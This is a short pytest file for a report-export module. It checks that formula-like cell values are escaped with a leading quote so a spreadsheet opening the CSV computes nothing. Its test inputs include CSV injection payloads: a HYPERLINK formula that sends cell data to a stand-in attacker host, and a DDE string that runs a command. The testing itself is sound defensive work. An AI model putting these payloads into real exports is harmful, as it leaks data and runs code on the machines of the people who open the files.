"""A spreadsheet that opens a report's CSV computes nothing."""

import csv
import io

import pytest

from ml.reports.spreadsheet import cell, csv_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "\uff1d1+1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_a_text_in_names_and_in_cells(formula: str) -> None:
    [[name], [value]] = csv.reader(io.StringIO(csv_text([{formula: formula}]), newline=""))
    assert name == value == f"'{formula}"


def test_numbers_and_words_stay_as_they_are() -> None:
    for value in (-0.5, -3, 1e-9, "sofas", "a=b", "", "0.5", True, None):
        assert cell(value) is value
    assert csv_text([{"device": "mobile", "shap": -0.25}]) == "device,shap\r\nmobile,-0.25\r\n"
